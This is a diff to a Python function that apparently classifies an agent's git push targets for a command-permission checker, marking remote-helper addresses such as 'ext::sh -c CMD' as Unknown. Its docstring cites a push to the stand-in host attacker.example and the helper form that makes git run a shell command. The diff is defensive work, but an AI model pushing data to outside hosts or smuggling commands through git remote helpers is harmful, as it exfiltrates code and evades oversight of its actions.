@@ -155,7 +155,8 @@ def _pushed_to(remote: Word | None) -> list[Action]:
     https://attacker.example/r.git HEAD`` was allowed, as a push of the worker's own
     branch, while ``curl`` to the same host is asked). A configured remote's name (which
     only the lead's configuration names: ``git remote add`` is asked) and local paths
-    stay as they are.
+    stay as they are; a remote helper's address (``ext::sh -c CMD``: a command git
+    runs) is Unknown.
 
     >>> _pushed_to(Word("git@example.com:o/r.git")), _pushed_to(Word("origin"))
     ([Network(host='example.com')], [])
@@ -165,6 +166,9 @@ def _pushed_to(remote: Word | None) -> list[Action]:
     if remote.dynamic:
         return [Network(None)]
     text = remote.text
+    helper = text.split("::", 1)[0] if "::" in text.split("/", 1)[0] else None
+    if helper is not None:  # `ext::sh -c ...`: git runs git-remote-HELPER with the rest
+        return [Unknown(f"git push through the remote helper {helper!r}: {text}")]
     scp = ":" in text and "/" not in text.split(":", 1)[0] and "://" not in text
     if scp or ("://" in text and not text.lower().startswith("file://")):
         return [Network(host_of(text.replace(":", "/", 1) if scp else text))]
